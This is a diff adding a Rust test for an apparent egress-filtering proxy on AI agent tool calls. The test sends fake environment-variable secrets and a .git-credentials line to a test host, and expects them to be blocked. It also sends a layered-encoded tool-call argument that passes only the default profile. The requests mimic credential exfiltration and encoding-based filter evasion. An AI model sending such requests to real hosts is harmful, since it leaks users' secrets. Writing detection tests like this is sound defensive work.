@@ -363,3 +363,89 @@ async fn log_action_lets_anomalies_through() {
     assert!(env.origin.requests().iter().any(|q| q.path == "/logged"));
     p.stop().await;
 }
+
+/// Plain HTTP absolute-form POST through the proxy.
+async fn http_post(proxy: std::net::SocketAddr, url: &str, ctype: &str, body: String) -> Resp {
+    let s = tokio::net::TcpStream::connect(proxy).await.unwrap();
+    let uri: http::Uri = url.parse().unwrap();
+    let req = http::Request::post(url)
+        .header("host", uri.authority().unwrap().as_str())
+        .header("content-type", ctype)
+        .body(Full::new(Bytes::from(body)))
+        .unwrap();
+    h1(s, req).await
+}
+
+fn percent_all(s: &str) -> String {
+    s.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn exfil_in_a_query_or_form_body_and_layers_in_a_tool_call_are_refused() {
+    let env = Env::new(ALLOW, "").await;
+    let p = spawn(&env, &[], false).await;
+    let port = env.http_port();
+    let (a, b) = (secretish(31), secretish(32));
+    let dump = format!("NPM_TOKEN={a}\nSTRIPE_SECRET_KEY={b}\n");
+    // Default profile: a dump in a GET query, percent-encoded.
+    let r = http_get(
+        p.addr,
+        &format!("http://echo.test:{port}/q1?m={}", percent_all(&dump)),
+    )
+    .await;
+    assert_eq!(r.status, 403, "{}", r.text());
+    assert!(r.text().contains("exfil-env-dump"), "{}", r.text());
+    // A form body with a .git-credentials line.
+    let form = format!(
+        "note={}",
+        percent_all(&format!("https://agent:{a}@github.com\n"))
+    );
+    let r = http_post(
+        p.addr,
+        &format!("http://echo.test:{port}/f1"),
+        "application/x-www-form-urlencoded",
+        form,
+    )
+    .await;
+    assert_eq!(r.status, 403, "{}", r.text());
+    assert!(r.text().contains("exfil-credential-file"), "{}", r.text());
+    // Layered encoding in tool-call arguments: passes in default, refused in strict.
+    let layered = STANDARD.encode(hex::encode(STANDARD.encode("reading list for the weekend")));
+    let call = serde_json::json!({"jsonrpc": "2.0", "id": 9, "method": "tools/call",
+        "params": {"name": "fetch", "arguments": {"q": layered}}})
+    .to_string();
+    let url = format!("http://echo.test:{port}/m1");
+    let r = http_post(p.addr, &url, "application/json", call.clone()).await;
+    assert_eq!(r.status, 200, "default profile: {}", r.text());
+    write_routes(&env, STRICT);
+    p.live.reload_now().await.unwrap();
+    let url = format!("http://echo.test:{port}/m2");
+    let r = http_post(p.addr, &url, "application/json", call).await;
+    assert_eq!(r.status, 403, "{}", r.text());
+    assert!(r.text().contains("anomaly-encoding-layers"), "{}", r.text());
+    let paths: Vec<String> = env
+        .origin
+        .requests()
+        .iter()
+        .map(|q| q.path.clone())
+        .collect();
+    assert!(paths.contains(&"/m1".to_string()), "{paths:?}");
+    for refused in ["/q1", "/f1"] {
+        assert!(
+            !paths.iter().any(|p| p == refused),
+            "{refused} reached the origin: {paths:?}"
+        );
+    }
+    for q in env.origin.requests().iter().filter(|q| q.path == "/m2") {
+        assert_eq!(q.body_len, 0, "the origin got the layered body");
+    }
+    p.stop().await;
+}
